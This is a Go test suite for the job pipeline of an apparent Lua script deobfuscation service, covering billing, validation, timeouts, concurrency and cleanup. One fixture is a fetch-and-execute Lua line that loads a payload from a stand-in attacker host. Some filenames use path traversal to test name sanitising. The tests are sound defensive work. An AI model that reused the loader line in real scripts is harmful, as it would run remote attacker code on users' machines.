package services

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/dmitrijs2005/gophdeobf/internal/common"
	"github.com/dmitrijs2005/gophdeobf/internal/logging"
	"github.com/dmitrijs2005/gophdeobf/internal/server/config"
	"github.com/dmitrijs2005/gophdeobf/internal/server/metrics"
	"github.com/dmitrijs2005/gophdeobf/internal/server/models"
	"github.com/dmitrijs2005/gophdeobf/internal/server/transformer"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// toolFunc adapts a function to Transformer.
type toolFunc func(ctx context.Context, in, out string, timeout time.Duration) (string, error)

func (f toolFunc) Invoke(ctx context.Context, in, out string, timeout time.Duration) (string, error) {
	return f(ctx, in, out, timeout)
}

const toolHeader = "-- deobfuscated\n"

// copyTool "deobfuscates" by prefixing the input with toolHeader.
func copyTool(calls *atomic.Int64) toolFunc {
	return func(_ context.Context, in, out string, _ time.Duration) (string, error) {
		if calls != nil {
			calls.Add(1)
		}
		b, err := os.ReadFile(in)
		if err != nil {
			return "", err
		}
		return "ok", os.WriteFile(out, append([]byte(toolHeader), b...), 0o600)
	}
}

// countingLedger records every call that reaches the ledger.
type countingLedger struct {
	Ledger
	calls atomic.Int64
}

func (c *countingLedger) GetBalance(ctx context.Context, id string) (int64, error) {
	c.calls.Add(1)
	return c.Ledger.GetBalance(ctx, id)
}

func (c *countingLedger) ClaimDaily(ctx context.Context, id string) (bool, error) {
	c.calls.Add(1)
	return c.Ledger.ClaimDaily(ctx, id)
}

func (c *countingLedger) TryDebit(ctx context.Context, id string) (bool, error) {
	c.calls.Add(1)
	return c.Ledger.TryDebit(ctx, id)
}

// raceLedger loses every debit, as if another job spent the last token.
type raceLedger struct{ Ledger }

func (raceLedger) TryDebit(context.Context, string) (bool, error) { return false, nil }

// staleLedger fails balance reads once a debit went through.
type staleLedger struct {
	Ledger
	debited atomic.Bool
}

func (l *staleLedger) TryDebit(ctx context.Context, id string) (bool, error) {
	ok, err := l.Ledger.TryDebit(ctx, id)
	if ok {
		l.debited.Store(true)
	}
	return ok, err
}

func (l *staleLedger) GetBalance(ctx context.Context, id string) (int64, error) {
	if l.debited.Load() {
		return 0, errors.New("replica lag")
	}
	return l.Ledger.GetBalance(ctx, id)
}

type fakeDownloader struct {
	body []byte
	err  error
}

func (f fakeDownloader) Fetch(context.Context, string, int64) ([]byte, error) { return f.body, f.err }

type fakeArchiver struct {
	key string
	err error
}

func (f *fakeArchiver) Archive(_ context.Context, key string, _ []byte) (string, error) {
	f.key = key
	if f.err != nil {
		return "", f.err
	}
	return "https://s3/" + key, nil
}

func pipelineConfig(t *testing.T) *config.Config {
	t.Helper()
	cfg := testConfig()
	cfg.WorkDir = t.TempDir()
	cfg.ToolTimeout = 5 * time.Second
	return cfg
}

func newPipeline(t *testing.T, ledger Ledger, tool Transformer, opts ...PipelineOption) (*PipelineService, *config.Config) {
	t.Helper()
	cfg := pipelineConfig(t)
	p := NewPipelineService(ledger, tool, logging.Nop{}, cfg, opts...)
	return p, cfg
}

func assertWorkDirEmpty(t *testing.T, dir string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	assert.Empty(t, entries, "work dir must be empty after the job")
}

func balanceOf(t *testing.T, l Ledger, id string) int64 {
	t.Helper()
	b, err := l.GetBalance(context.Background(), id)
	require.NoError(t, err)
	return b
}

func TestSubmit_Success(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	p, cfg := newPipeline(t, ledger, copyTool(nil))
	p.NewRequestID = func() string { return "req-1" }
	p.Now = func() time.Time { return time.UnixMilli(1700000000000) }

	src := []byte(`loadstring(game:HttpGet("https://evil.example/payload.lua"))() -- see https://evil.example/payload.lua.`)

	res, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "../My Script.lua", Source: src})
	require.NoError(t, err)

	assert.Equal(t, "req-1", res.RequestID)
	assert.Equal(t, toolHeader+string(src), string(res.Output))
	assert.EqualValues(t, len(src), res.OriginalSize)
	assert.EqualValues(t, len(toolHeader)+len(src), res.OutputSize)
	assert.Equal(t, "deobfuscated_My_Script_1700000000000.lua", res.OutputName)
	assert.Equal(t, []string{"https://evil.example/payload.lua"}, res.Links)
	assert.Len(t, res.Digest, 64)
	assert.Equal(t, "ok", res.Diagnostics)
	assert.EqualValues(t, 2, res.RemainingBalance)
	assert.Empty(t, res.DownloadURL)

	assert.EqualValues(t, 2, balanceOf(t, ledger, "u1"))
	assertWorkDirEmpty(t, cfg.WorkDir)
}

func TestSubmit_ValidationNeverTouchesLedger(t *testing.T) {
	tests := []struct {
		name string
		req  SubmitRequest
	}{
		{"exe", SubmitRequest{UserID: "u1", Filename: "virus.exe", Source: []byte("MZ")}},
		{"no extension", SubmitRequest{UserID: "u1", Filename: "script", Source: []byte("x")}},
		{"too large", SubmitRequest{UserID: "u1", Filename: "big.lua", Source: make([]byte, 25*common.MiB+1)}},
		{"declared too large", SubmitRequest{UserID: "u1", Filename: "big.lua", SourceURL: "https://cdn/x", DeclaredSize: 26 * common.MiB}},
		{"no source", SubmitRequest{UserID: "u1", Filename: "a.lua"}},
		{"url without downloader", SubmitRequest{UserID: "u1", Filename: "a.lua", SourceURL: "https://cdn/a.lua"}},
		{"no user", SubmitRequest{Filename: "a.lua", Source: []byte("x")}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			base, _ := newLedger(t, nil)
			ledger := &countingLedger{Ledger: base}
			var toolCalls atomic.Int64
			p, cfg := newPipeline(t, ledger, copyTool(&toolCalls))

			_, err := p.Submit(context.Background(), tt.req)
			assert.ErrorIs(t, err, common.ErrorValidation)
			assert.Zero(t, ledger.calls.Load())
			assert.Zero(t, toolCalls.Load())
			assertWorkDirEmpty(t, cfg.WorkDir)
		})
	}
}

func TestSubmit_ExtensionCaseInsensitive(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	p, _ := newPipeline(t, ledger, copyTool(nil))

	_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "A.LUA", Source: []byte("x")})
	assert.NoError(t, err)
	_, err = p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "notes.Txt", Source: []byte("x")})
	assert.NoError(t, err)
}

func TestSubmit_InsufficientBalance(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	ctx := context.Background()
	for i := 0; i < 3; i++ {
		ok, err := ledger.TryDebit(ctx, "u1")
		require.NoError(t, err)
		require.True(t, ok)
	}

	var toolCalls atomic.Int64
	p, cfg := newPipeline(t, ledger, copyTool(&toolCalls))

	_, err := p.Submit(ctx, SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	assert.ErrorIs(t, err, common.ErrInsufficientBalance)
	assert.Zero(t, toolCalls.Load())
	assert.EqualValues(t, 0, balanceOf(t, ledger, "u1"))
	assertWorkDirEmpty(t, cfg.WorkDir)
}

func TestSubmit_DailyClaimRefills(t *testing.T) {
	ledger, clk := newLedger(t, nil)
	ctx := context.Background()
	for i := 0; i < 3; i++ {
		_, _ = ledger.TryDebit(ctx, "u1")
	}
	clk.Advance(25 * time.Hour)

	p, _ := newPipeline(t, ledger, copyTool(nil))
	res, err := p.Submit(ctx, SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	require.NoError(t, err)

	// +2 from the claim, -1 for the job
	assert.EqualValues(t, 1, res.RemainingBalance)
}

func TestSubmit_LedgerErrorDenies(t *testing.T) {
	ledger, _ := newLedger(t, brokenRepo{err: errors.New("db down")})
	var toolCalls atomic.Int64
	p, _ := newPipeline(t, ledger, copyTool(&toolCalls))

	_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	assert.ErrorIs(t, err, common.ErrInsufficientBalance)
	assert.ErrorIs(t, err, common.ErrorInternal)
	assert.Zero(t, toolCalls.Load())
}

func TestSubmit_ToolFailureIsFree(t *testing.T) {
	ledger, _ := newLedger(t, nil)

	var seenDir string
	tool := toolFunc(func(_ context.Context, in, out string, _ time.Duration) (string, error) {
		seenDir = filepath.Dir(in)
		_ = os.WriteFile(out, []byte("partial"), 0o600)
		return "bad header", &transformer.ToolError{ExitCode: 1, Stderr: "bad header", Err: errors.New("exit status 1")}
	})
	p, cfg := newPipeline(t, ledger, tool)

	_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	assert.ErrorIs(t, err, common.ErrorExternalTool)

	assert.EqualValues(t, 3, balanceOf(t, ledger, "u1"))
	_, statErr := os.Stat(seenDir)
	assert.True(t, os.IsNotExist(statErr))
	assertWorkDirEmpty(t, cfg.WorkDir)
}

func TestSubmit_ToolTimeoutCleansUp(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("needs /bin/sh")
	}
	script := filepath.Join(t.TempDir(), "slow.sh")
	require.NoError(t, os.WriteFile(script, []byte("#!/bin/sh\necho started > \"$5\"\nsleep 5\n"), 0o700))

	ledger, _ := newLedger(t, nil)
	p, cfg := newPipeline(t, ledger, transformer.New("/bin/sh", script))
	p.toolTimeout = 200 * time.Millisecond

	_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	var te *transformer.ToolError
	require.ErrorAs(t, err, &te)
	assert.True(t, te.TimedOut)

	assert.EqualValues(t, 3, balanceOf(t, ledger, "u1"))
	assertWorkDirEmpty(t, cfg.WorkDir)
}

func TestSubmit_MissingOutputIsToolError(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	tool := toolFunc(func(context.Context, string, string, time.Duration) (string, error) { return "", nil })
	p, _ := newPipeline(t, ledger, tool)

	_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	assert.ErrorIs(t, err, common.ErrorExternalTool)
	assert.EqualValues(t, 3, balanceOf(t, ledger, "u1"))
}

func TestSubmit_LostDebitStillSucceeds(t *testing.T) {
	base, _ := newLedger(t, nil)
	p, _ := newPipeline(t, raceLedger{Ledger: base}, copyTool(nil))

	before := testutil.ToFloat64(metrics.DebitMissed)
	res, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	require.NoError(t, err)
	assert.NotNil(t, res)
	assert.Equal(t, before+1, testutil.ToFloat64(metrics.DebitMissed))
}

func TestSubmit_RemainingBalanceUnknown(t *testing.T) {
	base, _ := newLedger(t, nil)
	p, _ := newPipeline(t, &staleLedger{Ledger: base}, copyTool(nil))

	res, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	require.NoError(t, err)
	assert.Equal(t, models.UnknownBalance, res.RemainingBalance)

	// the debit itself happened
	assert.EqualValues(t, 2, balanceOf(t, base, "u1"))
}

func TestNewPipelineService_ToolTimeoutNeverUnbounded(t *testing.T) {
	for _, d := range []time.Duration{0, -time.Second} {
		var got time.Duration
		tool := toolFunc(func(ctx context.Context, in, out string, timeout time.Duration) (string, error) {
			got = timeout
			return copyTool(nil)(ctx, in, out, timeout)
		})

		ledger, _ := newLedger(t, nil)
		cfg := pipelineConfig(t)
		cfg.ToolTimeout = d
		p := NewPipelineService(ledger, tool, logging.Nop{}, cfg)

		_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
		require.NoError(t, err)
		assert.Equal(t, config.DefaultToolTimeout, got, "configured %s", d)
	}
}

// jobStates replays the pipeline's JSON log and returns the visited states
// and the state reported when the job finished.
func jobStates(t *testing.T, buf *bytes.Buffer) ([]string, string) {
	t.Helper()
	var visited []string
	var final string
	sc := bufio.NewScanner(buf)
	for sc.Scan() {
		var line struct {
			Msg   string `json:"msg"`
			State string `json:"state"`
		}
		require.NoError(t, json.Unmarshal(sc.Bytes(), &line))
		switch line.Msg {
		case "job state":
			visited = append(visited, line.State)
		case "job finished":
			final = line.State
		}
	}
	require.NoError(t, sc.Err())
	return visited, final
}

func TestSubmit_JobStates(t *testing.T) {
	failing := toolFunc(func(context.Context, string, string, time.Duration) (string, error) {
		return "", common.ErrorExternalTool
	})

	tests := []struct {
		name  string
		tool  Transformer
		req   SubmitRequest
		want  []string
		final string
	}{
		{
			name:  "inline source",
			tool:  copyTool(nil),
			req:   SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")},
			want:  []string{"awaiting_balance", "downloading", "transforming", "succeeded"},
			final: "succeeded",
		},
		{
			name:  "url source",
			tool:  copyTool(nil),
			req:   SubmitRequest{UserID: "u1", Filename: "a.lua", SourceURL: "https://cdn/a.lua"},
			want:  []string{"awaiting_balance", "downloading", "transforming", "succeeded"},
			final: "succeeded",
		},
		{
			name:  "tool failure",
			tool:  failing,
			req:   SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")},
			want:  []string{"awaiting_balance", "downloading", "transforming", "failed"},
			final: "failed",
		},
		{
			name:  "rejected upload",
			tool:  copyTool(nil),
			req:   SubmitRequest{UserID: "u1", Filename: "a.exe", Source: []byte("x")},
			want:  []string{"failed"},
			final: "failed",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			ledger, _ := newLedger(t, nil)
			p := NewPipelineService(ledger, tt.tool, logging.NewJSONLogger(&buf, "debug"), pipelineConfig(t),
				WithDownloader(fakeDownloader{body: []byte("remote")}))

			_, _ = p.Submit(context.Background(), tt.req)

			visited, final := jobStates(t, &buf)
			assert.Equal(t, tt.want, visited)
			assert.Equal(t, tt.final, final)
		})
	}
}

func TestSubmit_ConcurrentJobsAreIsolated(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	ctx := context.Background()
	_, err := ledger.Grant(ctx, "u1", 100)
	require.NoError(t, err)

	var mu sync.Mutex
	dirs := map[string]bool{}
	tool := toolFunc(func(_ context.Context, in, out string, _ time.Duration) (string, error) {
		dir := filepath.Dir(in)
		mu.Lock()
		dirs[dir] = true
		mu.Unlock()

		// only this job's input is visible in its area
		entries, err := os.ReadDir(dir)
		if err != nil {
			return "", err
		}
		if len(entries) != 1 {
			return "", errors.New("foreign files in work area")
		}
		time.Sleep(20 * time.Millisecond)
		return copyTool(nil)(ctx, in, out, 0)
	})

	p, cfg := newPipeline(t, ledger, tool)

	const jobs = 12
	var wg sync.WaitGroup
	errs := make(chan error, jobs)
	for i := 0; i < jobs; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := p.Submit(ctx, SubmitRequest{UserID: "u1", Filename: "same.lua", Source: []byte("x")})
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)

	for err := range errs {
		assert.NoError(t, err)
	}
	assert.Len(t, dirs, jobs)
	assert.EqualValues(t, 103-jobs, balanceOf(t, ledger, "u1"))
	assertWorkDirEmpty(t, cfg.WorkDir)
}

func TestSubmit_ConcurrencyCap(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	_, _ = ledger.Grant(context.Background(), "u1", 50)

	var running, peak atomic.Int64
	tool := toolFunc(func(ctx context.Context, in, out string, _ time.Duration) (string, error) {
		n := running.Add(1)
		for {
			p := peak.Load()
			if n <= p || peak.CompareAndSwap(p, n) {
				break
			}
		}
		time.Sleep(30 * time.Millisecond)
		running.Add(-1)
		return copyTool(nil)(ctx, in, out, 0)
	})

	cfg := pipelineConfig(t)
	cfg.MaxConcurrentJobs = 2
	p := NewPipelineService(ledger, tool, logging.Nop{}, cfg)

	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
			assert.NoError(t, err)
		}()
	}
	wg.Wait()

	assert.LessOrEqual(t, peak.Load(), int64(2))
}

func TestSubmit_CancelledWhileQueued(t *testing.T) {
	ledger, _ := newLedger(t, nil)
	cfg := pipelineConfig(t)
	cfg.MaxConcurrentJobs = 1
	p := NewPipelineService(ledger, copyTool(nil), logging.Nop{}, cfg)

	require.True(t, p.sem.TryAcquire(1))
	defer p.sem.Release(1)

	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()

	_, err := p.Submit(ctx, SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	assert.EqualValues(t, 3, balanceOf(t, ledger, "u1"))
}

func TestSubmit_FromURL(t *testing.T) {
	ledger, _ := newLedger(t, nil)

	p, _ := newPipeline(t, ledger, copyTool(nil), WithDownloader(fakeDownloader{body: []byte("remote")}))
	res, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", SourceURL: "https://cdn/a.lua"})
	require.NoError(t, err)
	assert.Equal(t, toolHeader+"remote", string(res.Output))
	assert.EqualValues(t, 6, res.OriginalSize)

	p, cfg := newPipeline(t, ledger, copyTool(nil), WithDownloader(fakeDownloader{err: common.ErrorDownload}))
	_, err = p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", SourceURL: "https://cdn/a.lua"})
	assert.ErrorIs(t, err, common.ErrorDownload)
	assert.EqualValues(t, 2, balanceOf(t, ledger, "u1"))
	assertWorkDirEmpty(t, cfg.WorkDir)
}

func TestSubmit_Archive(t *testing.T) {
	ledger, _ := newLedger(t, nil)

	arch := &fakeArchiver{}
	p, _ := newPipeline(t, ledger, copyTool(nil), WithArchiver(arch))
	p.NewRequestID = func() string { return "req-9" }

	res, err := p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "a.lua", Source: []byte("x")})
	require.NoError(t, err)
	assert.Contains(t, arch.key, "/req-9/deobfuscated_a_")
	assert.Equal(t, "https://s3/"+arch.key, res.DownloadURL)

	// archive failures do not fail the job
	arch.err = errors.New("s3 down")
	res, err = p.Submit(context.Background(), SubmitRequest{UserID: "u1", Filename: "b.lua", Source: []byte("x")})
	require.NoError(t, err)
	assert.Empty(t, res.DownloadURL)
}

func TestResultName(t *testing.T) {
	now := time.UnixMilli(42)
	assert.Equal(t, "deobfuscated_script_42.lua", ResultName("script.lua", now))
	assert.Equal(t, "deobfuscated_archive.tar_42.lua", ResultName("archive.tar.txt", now))
	assert.Equal(t, "deobfuscated_passwd_42.lua", ResultName("../../etc/passwd", now))
}

func TestOutcome(t *testing.T) {
	assert.Equal(t, metrics.OutcomeSucceeded, outcome(nil))
	assert.Equal(t, metrics.OutcomeValidation, outcome(common.ErrorValidation))
	assert.Equal(t, metrics.OutcomeInsufficient, outcome(common.ErrInsufficientBalance))
	assert.Equal(t, metrics.OutcomeDownload, outcome(common.ErrorDownload))
	assert.Equal(t, metrics.OutcomeTool, outcome(&transformer.ToolError{Err: errors.New("x")}))
	assert.Equal(t, metrics.OutcomeCancelled, outcome(context.Canceled))
	assert.Equal(t, metrics.OutcomeInternal, outcome(errors.New("boom")))
}
